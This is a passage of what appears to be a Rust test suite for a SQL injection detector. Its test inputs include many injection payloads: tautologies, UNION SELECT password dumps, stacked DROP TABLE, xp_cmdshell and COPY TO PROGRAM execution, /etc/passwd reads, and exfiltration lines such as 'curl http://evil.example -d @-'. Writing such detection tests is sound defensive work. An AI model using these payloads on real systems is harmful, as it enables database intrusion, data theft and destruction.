use crate::detectors::testing::{self, passes_at};
use crate::{Analysis, Class, Detectors, Level, Location, Place};

/// The kinds found in `text`, mentioned ones with `~`, sorted by nothing: in the order of the list.
fn kinds(text: &str) -> String {
    let detectors = Detectors::new();
    let mut analysis = Analysis::new();
    analysis.value(&detectors, Location::new(Place::Query, b"q"), text.as_bytes());
    let names: Vec<String> = analysis
        .findings()
        .iter()
        .map(|f| format!("{}{}", f.kind.id.trim_start_matches("sqli."), if f.mentioned { "~" } else { "" }))
        .collect();
    names.join(" ")
}

/// `text` has all of `wanted`.
#[track_caller]
fn check(text: &str, wanted: &str) {
    let have = kinds(text);
    for kind in wanted.split_whitespace() {
        assert!(have.split_whitespace().any(|k| k == kind), "{text}\n  wanted {kind}\n  have   {have}");
    }
}

/// `text` is let through at both levels.
#[track_caller]
fn passes(text: &str) {
    let detectors = Detectors::new();
    let mut analysis = Analysis::new();
    analysis.value(&detectors, Location::new(Place::Form, b"text"), text.as_bytes());
    let worst = analysis.worst(&detectors, Level::Strict);
    assert!(!worst.is_some_and(|w| w.blocks(Level::Strict)), "{text}: {}", kinds(text));
}

/// PostgreSQL alone has dollar quotes, and ends no statement without a semicolon.
#[test]
fn no_statement_follows_a_dollar_quote_directly() {
    for body in ["begin new.at := now(); return new; end", "select count(*) from orders", "(select 1)"] {
        let text = format!("create function f() returns trigger as $$ {body} $$ language plpgsql");
        let have = kinds(&text);
        assert!(!have.split_whitespace().any(|kind| kind == "juxtaposed"), "{text}: {have}");
    }
    check("x$$; select pg_sleep(5)--", "stacked after-quote time-function");
    check("x' select name, pw from users where id = 1", "juxtaposed after-quote");
}

#[test]
fn contexts() {
    check("1 or 1=1", "tautology after-number whole");
    check("' or '1'='1", "tautology after-quote");
    check("\" or \"1\"=\"1", "tautology after-quote");
    check("1) or (1=1", "tautology unbalanced");
    check("x' or 1=1 -- -", "tautology comment-end after-quote");
    check("admin'--", "quote-comment after-quote");
    check("admin') #", "quote-comment");
    check("or 1=1", "tautology bare-tail");
    check("a`=1 or 1=1 -- ", "tautology after-backtick");
}

#[test]
fn statements() {
    check("1 union select 1,2,3", "union-select");
    check("1 UNION/**/ALL/**/SELECT null,null", "union-select comment-split");
    check("-1' union all select user,password from users#", "union-select select-from");
    check("1; drop table users", "stacked");
    check("1,1) on duplicate key update password='x'#", "unbalanced insert-tail");
    check("1';exec master..xp_cmdshell 'dir'--", "stacked execute-function");
    check("1; waitfor delay '0:0:5'--", "stacked time-function");
    check("1 and (select count(*) from information_schema.tables)>0", "subselect schema condition");
    check("1 and sleep(5)", "time-function boolean-call");
    check("1 order by 10", "order-by-number");
    check("1 /*!50000union*/ /*!50000select*/ 1,2", "version-comment union-select");
    check("1e0union select 1,2", "union-select");
    check("x' and extractvalue(1,concat(0x7e,version()))-- -", "error-function info-function");
    check("1' or 1 is 1-- -", "boolean-constant comment-end");
    check("1' into outfile '/tmp/x' -- ", "into-file");
    check("10 into outfile '/tmp/x' lines terminated by 0x3c3f", "into-file file-function after-number");
}

#[test]
fn prose() {
    passes("O'Reilly");
    passes("it's the dogs' or the cats' turn");
    passes("select the best from the list and drop me a line");
    passes("The union of workers and 5 = 5 things");
    passes("Rock 'n' Roll");
    passes("this or that");
    passes("don't stop -- believing");
    passes("2 and 2 is 4");
    passes("1---");
    for text in [
        "Union select the. Anne-Marie O'Brien",
        "Union table the. Anne-Marie O'Brien",
        "Union select the from. Anne-Marie O'Brien",
        "The the the; Select when the like the the.",
        "Union select the (really). Anne-Marie O'Brien",
        "Key union select from. Anne-Marie O'Brien",
        "Limit table update the.",
        "1.001,- €; Or Null",
        "1.001,- €, Cat group by 24/7.",
        "$1.00 {\"v\":1,\"panel\":{\"in\":true}}",
        "{\"v\":1,\"panel\":{\"aa\":\" is\"}} Anne-Marie O'Brien",
        "https://www.example.com/?a=A--A&a=_, Anne-Marie Union",
        "https://www.example.com/?a=0-A--#top\nAnne-Marie O'Brien",
        "1.001,- €; Select case the. When the the.",
        "1.001,- €; Select case the; Like the the.",
        "Into a set cat select (really).",
        "Cat select case a select.",
    ] {
        passes(text);
    }
    passes("Please update your settings; delete from the basket what is not needed.");
}

#[test]
fn what_lists_of_attacks_were_missed_for() {
    check("-12 union select 1,,3,4,5", "union-columns");
    check("-9_99 union select 1,2,3,version()", "union-select union-columns info-function");
    check("xxx union (select id from users limit 1,1)", "union-select");
    check("1 or 1=system_user", "condition info-function");
    check("' or email is not null", "null-test");
    check(
        "'goto label; label: declare @s varchar(80);set @s = cast(0x657865 as varchar)",
        "declare-variable stacked",
    );
    check("'begin declare @s varchar(80)", "declare-variable juxtaposed");
    check("2';use master exec xp_cmdshell 'ping 127.0.0.1'--", "stacked execute-function");
    check("';if 1=1 drop table users-- -a", "stacked");
    check("1 or '{\"a\":1}'::jsonb @> '{\"a\":1}'", "json-operator condition");
    passes("the trade union (select members only) met; or was it 1_000 people?");
    passes("label: declare your goods; goto the next desk");
    passes("begin with the basics, use master copies or goto page 5");
}

#[test]
fn fields_that_take_statements() {
    let look = |name: &str, text: &str| {
        crate::detectors::testing::look(crate::Class::Sqli, crate::Place::Json, name, text.as_bytes())
    };
    for statement in [
        "SELECT region, SUM(amount) FROM sales WHERE year = 2024 GROUP BY region ORDER BY 2 DESC",
        "WITH t AS (SELECT a FROM b) SELECT * FROM t JOIN c ON t.a=c.a",
        "select a from t1 union select a from t2 where name = 'O''Hara'",
        "SELECT mean(\"v\") FROM \"cpu\" WHERE time > now() - 1h GROUP BY time(10m)",
    ] {
        assert!(!look("panels.0.rawSql", statement).1, "{statement}");
    }
    assert!(look("comment", "select a from t1 union select a from t2 where name = 'O''Hara'").1);
    // A piece of a statement, or one that leaves the database, is an attack there, too.
    for attack in [
        "1 union select user, password from users",
        "' or 1=1--",
        "select load_file('/etc/passwd')",
        "select 1; exec xp_cmdshell 'whoami'",
    ] {
        assert!(look("panels.0.rawSql", attack).1, "{attack}");
    }
    assert!(!look("new_password", "P@ss;w0rd'\"--").1);
    assert!(look("new_password", "' or 1=1--").1);
}

#[test]
fn payloads_that_a_text_speaks_of() {
    for text in [
        "The query is `SELECT name FROM users WHERE id = 1 OR 1 = 1` and it is slow",
        "try this:\n```\nDELETE FROM users WHERE name = 'x' OR 1=1;\n```\nand see",
        "use `1=1` to test",
    ] {
        let (have, is_blocked) = testing::look(Class::Sqli, Place::Form, "text", text.as_bytes());
        assert!(!is_blocked, "{text}: {have}");
    }
    for text in [
        // No more do marks of a quotation.
        "The classic payload is `' OR '1'='1` and it still works somewhere",
        "try this:\n```\nx' or 1=1 -- \n```\nand see",
        "> ' or 1=1 -- ",
        "<pre><code>x' union select a, b from c-- </code></pre>",
        // Words around it take nothing from a piece that ends the literal.
        "The classic payload is ' OR '1'='1 and it still works somewhere",
        "nice old post ' or '1'='1 ok",
        "the nice post ' union select password from users where a='no one is here",
    ] {
        assert!(
            crate::detectors::testing::look(crate::Class::Sqli, crate::Place::Form, "text", text.as_bytes())
                .1,
            "{text}"
        );
    }
}

#[test]
fn what_honest_texts_were_flagged_for() {
    // Nothing is selected, nothing waits, and what a question ends is none of SQL's.
    passes("Into a set cat select not -");
    passes("Union select null?");
    passes("Union select null? Anne-Marie O'Brien");
    passes("Into a set cat select not (really).");
    passes("When table select - Order like a select (really).");
    passes("When table select - Order like it's the the cat. Anne-Marie van der Berg");
    passes("Table drop table not where null select a...");
    check("1; select not(1)", "stacked");
    passes("Into a set cat select table;");
    passes("Union select null?, Anne-Marie O'Brien");
    passes("When table from - The like cat like cat the.");
    passes("By when table from - The like cat like cat the.");
    check("1 or name like name", "tautology");
    check("x or name=name", "tautology");
    passes("Table drop table table where null select a...");
    check("1;drop table t where", "stacked");
    check("1; select user;", "stacked");
    passes("Into a set cat select table -");
    passes("Into a set cat select table (really).");
    passes("Into a set cat select cat (really).");
    check("1; select f (x)", "stacked");
    passes("Union select null; Anne-Marie O'Brien");
    passes("waitfor delay");
    check("1; waitfor delay", "time-function");
    check("1 union select null,null", "union-columns");
    // A string that never ends holds the statement's own quote.
    passes("Don't forget to escape ' and \" ;-) -- Bob");
    check("x' or \"a\"=\"a", "reopened");
    check("x' or 'x", "reopened");
    // A row of keys, and quotes in threes.
    passes("!\"#$%&/()=?");
    check("admin\"#", "quote-comment");
    check("''' or 1=1 -- '''", "tautology");
    check("a''' union select 1,2 -- '''b", "union-columns");
    passes("'''Bold''' and ''italic'' text with [[link|it's here]]");
}

#[test]
fn what_own_attacks_were_missed_for() {
    check("\\Nunion(select 1,2)", "union-select union-columns");
    check("';rename tables `words` to `w1`;alter table `w1` change `a` `b` varchar(9);#", "stacked");
    check("(SELECT password FROM users WHERE username='admin')", "subselect select-from whole");
    passes("(select the size from the table where it is shown)");
}

#[test]
fn texts_with_quotes() {
    for text in [
        "路径 '%s' 未合并",
        "\u{b85d} \u{201c}<\u{201d} \u{b97c}",
        "let yaml = r#\"\n    x: 1\n    \"#;",
        "use mke2fs \" or \" tune2fs for that, whatever it is",
        "\\\" ---------------------",
    ] {
        passes(text);
    }
    check("é' or 1=1 -- ", "tautology after-quote");
    check("路径' or '1'='1", "tautology after-quote reopened");
}

#[test]
fn dumps() {
    let dump = "-- dump\nDROP TABLE IF EXISTS `users`;\nCREATE TABLE `users` (`id` int NOT NULL, PRIMARY KEY (`id`));\n\
                INSERT INTO `users` VALUES (1,'it''s','a' 'b'),(2,'x','y');\nSELECT 1 FROM users WHERE 1=1;\n";
    testing::passes_at(Class::Sqli, Place::FileContent, "file", dump);
}

/// Found by the property of everyday values: words of SQL after which no list of columns stands.
#[test]
fn words_without_a_list_of_columns() {
    for text in [
        "Union select e.g..",
        "Union select i.e. the best",
        "24/7 select order where.",
        "24/7 select group where it is",
    ] {
        passes(text);
    }
    check("union select a.b", "union-select");
    check("union select a.b.c from a.b", "union-select");
    check("1 union select e.g. from e", "union-select");
    check("1 select from users where 1=1", "juxtaposed");
    check("1 select order from users", "juxtaposed");
}

#[test]
fn rows_of_an_insert() {
    for text in ["x','a@b.example',1),('y", "x\", 1), (\"y", "a', now()),('b"] {
        let is_found = kinds(text).contains("row-break");
        // What opens a parenthesis before closing one is left to the statement's own reading.
        assert_eq!(is_found, !text.contains("now("), "{text}");
    }
    for text in [
        "('a','b'),('c','d')",
        "it's x, (1), (2)",
        "[1, 2), (3, 4]",
        "f('a', 'b'), (g)",
        "smith's, jones), (brown",
    ] {
        assert!(!kinds(text).contains("row-break"), "{text}");
    }
}

#[test]
fn conditions_that_are_none_of_sql() {
    passes(
        "firstch = w.substr(0,1);\n    if (firstch == \"y\")\n      w = firstch.toUpperCase() + w.substr(1);",
    );
    passes("if (x == 5) return \"\"");
    passes("if 5 > 3 then 3 < 5, so 1 = 1 holds");
    passes("and(equals(status,'open'),greaterThan(total,'100'))");
    passes("or(contains(name,'x'),any(tag,'a','b'))");
    passes("@app/*");
    passes("src/**/*");
    check("1;if(1=1) waitfor delay '0:0:5'", "stacked time-function");
    check("if 1=1 then select 1", "statement");
    check("and(1,2)=(select 1,2)", "bare-tail");
    check("and(select 1)", "bare-tail");
    check("1 or 1=1/*", "tautology comment-end");
    check("admin'/*", "quote-comment");
}

#[test]
fn unions_that_end_a_sentence() {
    passes("1.001,- \u{20ac}\nUnion select the.");
    passes("5 Union select the.");
    passes("Select table union select the. Anne-Marie O'Brien");
    passes("Union select by; Anne-Marie O'Brien");
    passes("Select null select?");
    passes("Union select select?");
    check("5 union select a. B from b a", "union-select");
    passes("1.001,- \u{20ac}\nUnion select the!");
    check("1 union select null;", "union-select");
    check("1;select 1", "stacked");
    check("5 union select a.b", "union-select");
    check("5 union select a from b.", "union-select");
}

#[test]
fn passwords() {
    use crate::Class::Sqli;
    for text in ["YS<A?a?54{E)\"Wr(6z'/{M#", "Knt%@jXbg#+=?", "A_}|SJEY##&", ",@Z,Y\")%)[|*:\""] {
        testing::passes_at(Sqli, Place::Form, "password", text);
    }
    for text in ["' or 1=1#", "'='", "') or ('a'='a", "x' union select 1#", "1;drop table users--"] {
        let (have, is_blocked) = testing::look(Sqli, Place::Form, "password", text.as_bytes());
        assert!(is_blocked, "{text}: {have}");
    }
}

#[test]
fn calls_and_nothing_else() {
    let at = |name: &str, text: &str| testing::look(Class::Sqli, Place::Query, name, text.as_bytes()).0;
    for text in ["sleep(5)", "pg_sleep(10)", "benchmark(4000000,md5(1))", "version()", "user()", "@@version"]
    {
        assert!(at("id", text).contains("call-alone"), "{text}");
        // Somebody looks for it.
        assert!(at("q", text).contains("call-alone!function-said"), "{text}");
    }
    for text in
        ["sleep (8)", "time.sleep(5)", "sleep()", "sleep(ms)", "asleep(5)", "user(1)", "version", "@@x"]
    {
        assert!(!at("id", text).contains("call-alone"), "{text}");
    }
}

/// What escapes stand for in a document does not end its strings: each of them is looked at by itself.
#[test]
fn json_in_json() {
    passes("{\"id\":\"5\",\"more\":\"{\\\"q\\\":\\\"it's = 5\\\",\\\"n\\\":\\\"men's - 5\\\"}\"}");
    check("{\"id\":\"5\",\"more\":\"{\\\"q\\\":\\\"x' or 1=1#\\\"}\"}", "tautology after-quote");
    check("{\"id\":\"x\\u0027 or 1=1#\"}", "tautology after-quote");
    check("{\"a\":1,\"x' or 1=1-- \":{\"b\":1}}", "tautology after-quote");
}

/// Text of several kinds around a piece takes nothing from it, in a field that is not for text.
#[test]
fn text_around_a_piece() {
    let words = "the weather was nice and we walked along the river, or so they said ".repeat(40);
    let list = "- apples 3\n- pears (green) 4\n".repeat(60);
    let json = format!("{{{}\"z\": 1}}", "\"a\": \"b c\", ".repeat(100));
    let html = "<p class=\"x\">It was a day</p>\n".repeat(60);
    let letter = "A".repeat(5_000);
    let quotes = "it''s a 'word' and another ".repeat(80);
    for attack in [
        "x' or 1=1-- ",
        "x' or 'a'='a",
        "x') union select password from users-- ",
        "x'; drop table users-- ",
        "x' and sleep(5) and 'a'='a",
        "admin'-- ",
        "x' or id-- ",
        "x'||(select version())||'",
    ] {
        for (kind, pad) in
            [("words", &words), ("list", &list), ("json", &json), ("html", &html), ("letter", &letter)]
        {
            for text in [format!("{pad} {attack}"), format!("{attack}{pad}"), format!("{pad}{attack}{pad}")] {
                let (have, is_blocked) = testing::look(Class::Sqli, Place::Query, "q", text.as_bytes());
                assert!(is_blocked, "{attack} in {kind}: {have}");
            }
        }
        let text = format!("{quotes}{attack}");
        assert!(testing::look(Class::Sqli, Place::Query, "q", text.as_bytes()).1, "{attack} after quotes");
    }
    for pad in [words, list, json, html, letter, quotes] {
        passes(&pad);
        testing::passes_at(Class::Sqli, Place::Query, "q", &pad);
    }
}

#[test]
fn text_around_a_piece_without_a_quote() {
    for attack in ["1 or 1=1", "1 union select 1,2,3", "1 and sleep(5)"] {
        let text = format!("{} {attack}", "we saw a house and a tree".repeat(30));
        let (have, is_blocked) = testing::look(Class::Sqli, Place::Query, "q", text.as_bytes());
        assert!(is_blocked, "{attack}: {have}");
        // Such a piece ends the statement of nobody: a field for text may have it.
        testing::passes_at(Class::Sqli, Place::Form, "text", &format!("so we wrote {attack} there"));
    }
}

/// Long lists of strings are read once.
#[test]
fn lists_are_read_once() {
    for unit in ["'a','b',", "\"x\",\"or\",", "('a','b'),", "''", "'='", "' or '", "';select 1;'", "`a` "] {
        let mut analysis = Analysis::new();
        let text = unit.repeat(100_000 / unit.len());
        analysis.value(&Detectors::new(), Location::new(Place::Form, b"x"), text.as_bytes());
        let (done, allowed) = analysis.work();
        assert!(done <= allowed + 8 * text.len() as u64, "{unit}: {done} of {allowed}");
    }
}

#[test]
fn more_evidence() {
    for (text, kind) in [
        ("1;COPY t FROM PROGRAM 'id'", "execute-function"),
        ("copy (select '') to program 'sh -c id'", "execute-function"),
        ("'; grant dba to scott--", "stacked"),
        ("' or id-- ", "boolean-name"),
        ("or id-- -", "boolean-name"),
        ("'or username like'%", "condition"),
        ("1 and password like 'a%'", "number-condition"),
        ("2-(password like 'a%')", "number-condition"),
        ("-1 or pw regexp '^a'", "number-condition"),
        ("1 or true", "number-condition"),
        ("1 limit 1,1", "number-clause"),
        ("'LIKE'%", "reopened"),
        ("'^'", "reopened"),
        ("'='", "reopened"),
        ("'||(select 1 from dual)||'", "subselect"),
    ] {
        check(text, kind);
        assert!(testing::look(Class::Sqli, Place::Query, "q", text.as_bytes()).1, "{text}: {}", kinds(text));
    }
}

/// What people look for, query languages of other products, and code, in a field that says nothing of its
/// purpose.
#[test]
fn honest_values_of_a_neutral_field() {
    for text in [
        "rate(http_requests_total[5m]) * 100 > 80 and up > 0",
        "100 * (1 - avg(a) / avg(b)) > 80 and on(instance) x > 0",
        "{app=\"x\"} |= \"error\" != \"timeout\" | json | status >= 500 and duration > 10s",
        "project = \"A B\" and assignee = currentUser() order by priority",
        "doc['x'].value > 5 && params.y == 1 ? 1 : 0",
        "df[(df[\"a\"] > 5) & (df[\"b\"] == \"x\")].groupby(\"c\")",
        "\"machine learning\" and \"deep learning\" or ai",
        "the `user` table and `id` column -- see docs",
        "\"quoted\" -- then dash",
        "printf(\"%s\", x); /* ok */",
        ".*('|--|#).*",
        "['\"]?([a-z]+)['\"]?\\s*=\\s*",
        "top 10 or better, 1 or 2, 5 and under",
        "1 order by mail",
        "3 limit 4",
        "grant access to users",
        "color='#fff' and '#top' of a page",
    ] {
        testing::passes_at(Class::Sqli, Place::Query, "x", text);
    }
}

/// Passwords that a generator draws from all signs: none of 1,500.
#[test]
fn drawn_passwords() {
    let detectors = Detectors::new();
    let mut state = 0x9E37_79B9_7F4A_7C15_u64;
    let mut next = |below: u64| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state % below
    };
    for _ in 0..1_500 {
        let len = 8 + next(33);
        let text: String = (0..len).map(|_| char::from(b'!' + next(94) as u8)).collect();
        let mut analysis = Analysis::new();
        analysis.value(&detectors, Location::new(Place::Form, b"user[password]"), text.as_bytes());
        let blocks = |class: Class| {
            analysis.scores(&detectors).any(|score| score.class == class && score.blocks(Level::Balanced))
        };
        assert!(![Class::Sqli, Class::Ldap, Class::NoSql, Class::Xpath].into_iter().any(blocks), "{text}");
    }
}

#[test]
fn statements_that_give_rights_or_run_blocks() {
    use crate::detectors::testing::{blocks, passes_at};
    for text in [
        "1;REVOKE ALL ON t FROM x",
        "x'; grant select, insert on a.b to 'u'@'%'--",
        "1;do $$begin perform pg_sleep(3);end$$",
        "id`,(select password from users limit 1) as `x",
        "1||1",
        "'+or+1=1--",
    ] {
        blocks(Class::Sqli, text, "");
    }
    for text in ["12||15||18", "use `a` and `b", "a||b", "do it; revoke all on Monday"] {
        passes_at(Class::Sqli, Place::Query, "q", text);
    }
}

#[test]
fn statements_of_few_words_and_clauses() {
    use crate::detectors::testing::{blocks, passes_at};
    for text in [
        "1 or 1",
        "1 and(1)",
        "1 is not null",
        "1 like 1",
        "x'div 1#",
        "x' for update--",
        "1' limit 1 offset 1-- -",
        "1;table users",
        "1;set global general_log='on'",
        "1;backup database a to disk='b'",
        "x';flush privileges#",
    ] {
        blocks(Class::Sqli, text, "");
    }
    for text in [
        "1 or 2",
        "buy 1 or 1 kg of it",
        "24 or (48)",
        "chair;table lamp",
        "2;table for two",
        "it's for update -- see below",
        "$('div #a')",
        "the dogs' limit 5 -- no more",
        "1-true",
        "1;set of three",
    ] {
        passes_at(Class::Sqli, Place::Query, "q", text);
    }
}

/// Quoted names, as libraries that map objects to tables write them.
#[test]
fn double_quoted_names() {
    use crate::detectors::testing::{blocks, passes_at};
    for text in [
        r#"SELECT "auth_user"."id" FROM "auth_user" WHERE "auth_user"."id" = 21"#,
        r#"UPDATE "x" SET "a" = 1 WHERE "x"."id" = 5"#,
        r#"SELECT "t"."a" FROM "t" WHERE ("t"."a" = 1 AND "t"."is_on" = true)"#,
        r#"SELECT "a" FROM "t" WHERE "id" = 21"#,
    ] {
        passes_at(Class::Sqli, Place::Query, "x", text);
    }
    // A statement that reads rows is none for a field that is not for statements, but no tautology.
    let limited = r#"SELECT "users".* FROM "users" WHERE "users"."id" = 1 LIMIT 1"#;
    assert!(!kinds(limited).contains("tautology"), "{}", kinds(limited));
    for text in [
        "\" or \"a\"=\"a",
        "\" or \"\"=\"",
        "1 or \"1\"=1",
        "1 or \"a\"=\"a\"",
        "\" or \"a\".\"a\"=\"a\".\"a",
        "1 or \"a\".\"a\"=\"a\".\"a\"",
        "x\" or \"a\".b=1-- ",
        "select * from t WHERE 1=1 or 2=2",
        "select * from t where \"1\"=1",
        "select a from t where \"a\"=\"a\"",
    ] {
        blocks(Class::Sqli, text, "");
    }
}

/// Queries of monitoring and formulas: the left side of a comparison is more than its last factor, and what
/// braces hold is no operand.
#[test]
fn arithmetic_and_braces() {
    use crate::detectors::testing::{blocks, passes_at};
    for text in [
        "redis_memory_used_bytes / redis_memory_max_bytes * 100 > 90 and redis_memory_max_bytes > 0",
        "price * 100 > 90 and stock > 0",
        "(a + b) * (100) > 90 and 5 - x < 3 and y > 0",
        "pve_up{id=~\"node/.*\"} == 0",
        "up{job='node'} == 0 or absent(up)",
        "up{job=\"node\"} == 0 or sum(up) > 1",
    ] {
        passes_at(Class::Sqli, Place::Query, "x", text);
    }
    for text in [
        "1*100>90 and 1=1",
        "' or 2*3=6--",
        "1) and 5>3",
        "1 or id*0=0",
        "' or id*0=0--",
        "x' or id*(1)=id and 1=1-- ",
        "x'} or 1=1-- ",
        "{fn now()} or 1=1",
        "1 and name*(1=1)",
    ] {
        blocks(Class::Sqli, text, "");
    }
}

/// Cookies, headers and paths are looked at as they came, too: what an encoder of addresses left is no quote
/// with an operator behind it. The decoded value decides.
#[test]
fn encoded_values() {
    let places = [Place::Cookie, Place::Header, Place::PathSegment, Place::Query, Place::Json];
    for place in places {
        for text in [
            "She%20said%20'yes'%20--%20twice!",
            "Levi's%20'Slim'%20--%20blue",
            "What's%20the%20diff%20between%20'AND'%20and%20'OR'",
            "L'%C3%A9t%C3%A9%20'indien'%2C%20ou%20'or'",
        ] {
            testing::passes_at(Class::Sqli, place, "x", text);
        }
        for text in [
            "x'--",
            "x'or'1'='1",
            "1%20or%201=1",
            "a'%20or%20'1'='1",
            "a'%20or%20'1'='1'--%20",
            "x'%20union%20select%201%2C2%20--%20",
            "x'/**/or/**/5%25=5#",
            "a%27%20or%20%271%27%3D%271",
        ] {
            let (have, is_blocked) = testing::look(Class::Sqli, place, "x", text.as_bytes());
            assert!(is_blocked, "{text} at {place:?}: {have}");
        }
    }
}

/// Statements behind a semicolon that no table of verbs knows, or in forms that few dialects have.
#[test]
fn statements_of_any_verb() {
    use crate::detectors::testing::{blocks, passes_at};
    for statement in [
        "COPY users TO PROGRAM 'curl http://evil.example -d @-'",
        "delete users where id=1",
        "insert users values('a','b')",
        "vacuum into '/var/www/x.php'",
        "bulk insert t from '\\\\evil.example\\x'",
        "restore headeronly from disk='\\\\evil.example\\x'",
        "load '/tmp/x.so'",
        "create extension plpython3u",
        "create assembly x from '\\\\evil\\x.dll' with permission_set=unsafe",
        "alter system set archive_command='id'",
        "change master to master_host='evil.example'",
        "install component 'file://x'",
        "deny select to x",
        "kill connection 5",
        "begin tran",
        "print 'x'",
    ] {
        for text in [format!("1;{statement}"), format!("1; {statement}--"), format!("x';{statement}--")] {
            blocks(Class::Sqli, &text, "stacked");
        }
    }
    blocks(Class::Sqli, "x');frobnicate the users; -- -", "");
    for text in [
        "he said 'no'; delete it -- thanks",
        "1;copy to clipboard",
        "Rock 'n' roll; play it loud -- now",
        "1;install it; restart",
        "3; deny all of it",
        "12;abc-def--",
        "12.5; and 1 more --",
        "1;x;--",
        "a='b'; c--",
        "the boys'; play it loud -- now",
    ] {
        passes_at(Class::Sqli, Place::Query, "x", text);
    }
}

/// What goes on behind a quote without an operator: clauses that a comment ends, and further columns.
#[test]
fn clauses_and_columns_behind_a_quote() {
    for text in [
        "x',admin='1",
        "x' , admin = '1",
        "x',role='admin',x='",
        "x',password='5f4dcc3b5aa765d61d8327deb882cf99",
        "x',admin=1-- ",
        "x\",a=\"1",
        "x' returning password-- ",
        "' as a,password from users-- ",
        "' option(recompile)-- ",
        "' for xml path-- ",
    ] {
        let (have, is_blocked) = testing::look(Class::Sqli, Place::Form, "name", text.as_bytes());
        assert!(is_blocked, "{text}: {have}");
    }
    for text in [
        "x='a', y='b'",
        "x='a', y='b",
        "[['name','ilike','o'],'",
        "O'Brien, admin",
        "'1--",
        "Ann O'Hara -- from the office of the boss",
        "f('a', b='c')",
        "print(x['a'], end='')",
        "<a title='a', class='b'>",
        "5'10\", weight=180",
        "'a', b, 'c",
    ] {
        testing::passes_at(Class::Sqli, Place::Form, "name", text);
    }
}

/// Values in place of a column, a list of columns or a table.
#[test]
fn expressions_in_place_of_a_name() {
    let look = |name: &str, text: &str| testing::look(Class::Sqli, Place::Query, name, text.as_bytes());
    for text in [
        "price,sleep(5)",
        "name desc,pg_sleep(10)",
        "case when password like 'a%' then id else price end",
        "id*(password like 'a%')",
        "*,(select password from users)",
        "name,(select password from users)",
        "id from users union select password from users",
        "(select id,password as name from users)x",
        "-sleep(5)",
        "(sleep(5))",
        "sleep(5)*1",
        "sleep(5)=0",
        "1-db_name()",
        "name,pg_read_file('/etc/passwd')",
        "id,dblink_connect('host=evil.example')",
    ] {
        let (have, is_blocked) = look("sort", text);
        assert!(is_blocked && have.contains("expression"), "{text}: {have}");
    }
    for text in [
        "price desc, name asc",
        "-price,name",
        "coalesce(price,0)",
        "score desc,sum(x,y) asc",
        "length(Name)",
        "Sizes (select one from the list)",
        "Sizes, (select one from the list)",
        "eat, sleep (8), repeat",
        "time.sleep(5)",
        "1-abs(x)",
        "2*(a > b)",
    ] {
        let (have, is_blocked) = look("sort", text);
        assert!(!is_blocked, "{text}: {have}");
    }
    assert!(!look("q", "price,sleep(5)").1);
}

/// `text` in the field `name` of a query string is blocked, or not.
#[track_caller]
fn blocks_in(name: &str, text: &str, wanted: bool) {
    let (kinds, is_blocked) = testing::look(Class::Sqli, Place::Query, name, text.as_bytes());
    assert_eq!(is_blocked, wanted, "{name}={text}: {kinds}");
}

/// An expression in place of a number or a column, that reads a column whose name says that it is secret.
#[test]
fn expressions_over_secrets() {
    for text in [
        "hex(password)",
        "concat(name,0x3a,password)",
        "strpos(user_password,'s')",
        "unicode(pwd)/115",
        "password>'a'",
        "(password>\"a\")",
        "password between \"s\" and \"t\"",
        "reset_token like 'a%'",
        "if(pin>500,id,price)",
        "password||''",
        "1+password",
        "elt(1+(password>\"m\"),2,1)",
        "password glob 's*' desc",
    ] {
        blocks_in("sort", text, true);
        blocks_in("q", text, false);
    }
    for text in [
        "password",
        "name,password",
        "forgot-password",
        "password/reset",
        "reset_password",
        "password=abc",
        "password=\"abc\"",
        "token_type",
        "token-5",
        "user password",
        "(password)",
        "lower(name)",
        "count(id)",
        "round(price)>5",
    ] {
        blocks_in("view", text, false);
    }
}

/// A conversion of what may be no number: the error tells what it was.
#[test]
fn conversions() {
    for text in
        ["login::int", "(a||b)::numeric", "1/login::int", "cast(login as int)", "1+cast(mail as numeric)"]
    {
        blocks_in("id", text, true);
    }
    for text in ["std::string", "Foo::Bar", "Cpanel::JSON", "5::int", "cast(5 as int)", "cast", "a::b", "::1"]
    {
        blocks_in("id", text, false);
    }
}

/// The result of a comparison is a number to SQL alone.
#[test]
fn comparisons_as_factors() {
    for text in ["id*(pin>5)", "3*(login like 'b%')", "1*(mail<0x74)", "rank*(grade>=5)", "-(stock<5)"] {
        blocks_in("sort", text, true);
    }
    for text in ["2*(x+1)", "3-(2+1)", "price*qty", "a*(b-c)", "f(x)>5"] {
        blocks_in("sort", text, false);
    }
}

/// A condition behind the number in a field that takes a number, over whatever column.
#[test]
fn conditions_in_fields_for_numbers() {
    for text in [
        "1 or rowid",
        "1 or name~''",
        "1e0or 2",
        "(1)or(id)",
        "1 or not mail",
        "3 xor login",
        "8 div(stock)",
        "0 in(id>99)",
        "1||mail",
    ] {
        blocks_in("user_id", text, true);
    }
    for (name, text) in
        [("age", "1 or more"), ("q", "1 or 2"), ("id", "1"), ("id", "1,2"), ("id", "1-2"), ("id", "a or b")]
    {
        blocks_in(name, text, false);
    }
}

/// Statements and queries without a SELECT.
#[test]
fn statements_without_select() {
    for text in [
        "1;handler users open as h;handler h read first",
        "1;analyze table users",
        "1;comment on table users is 'x'",
        "1;values(1)",
        "1;explain(analyze)table users",
        "1;with a as(table users)table a",
        "1;((table users))",
        "1;unlisten *",
        "1;set search_path to x",
        "1;do 'begin perform 1;end'",
        "1;drop owned by current_user",
        "1;fetch c",
        "1;rollback",
        "0 union(with a as(table users)table a)",
        "0 except table logins",
        "x'union(with a as(table users)table a)--'",
        "x','admin')returning(table s)--",
        "'||(with a as(table s)table a)||'",
        "'||(values((table s)))||'",
        "items left join users on users.id=items.id",
        "items a join(select*from users)b",
    ] {
        blocks_in("id", text, true);
    }
    for text in [
        "1;open",
        "1;level=2",
        "5; show me the way",
        "2;red;blue",
        "text/html;q=0.9",
        "1;2;3",
        "10;start",
        "see (table 3)",
        "see (table a) and (values below)",
        "sign up and join us",
        "12;close the door behind you when you leave",
    ] {
        blocks_in("id", text, false);
    }
}

/// What follows a dot is a part of a name, and a sentence ends in dots and the like.
#[test]
fn sentences_that_end() {
    for text in [
        "Where cat select e.g..",
        "Drop table drop...",
        "1, drop table drop.",
        "2, drop table it's.",
        "Union select the from!",
        "Union select it from? No",
        "Union select the from;",
        "Union select the from -",
        "Union select by the.",
        "Union table the into.",
        "Union table the order. And more",
        "24/7 union select the. The the the:",
        "Union select null the.",
        "Union select the. C++ from the.",
    ] {
        passes(text);
    }
    check("1 union select a.b from c.d", "union-select");
    check("1 union select a.* from c as a", "union-select");
    check("1;exec master..xp_cmdshell 'dir'--", "stacked");
    check("1 union select a.`b`,a.\"c\" from a", "union-select");
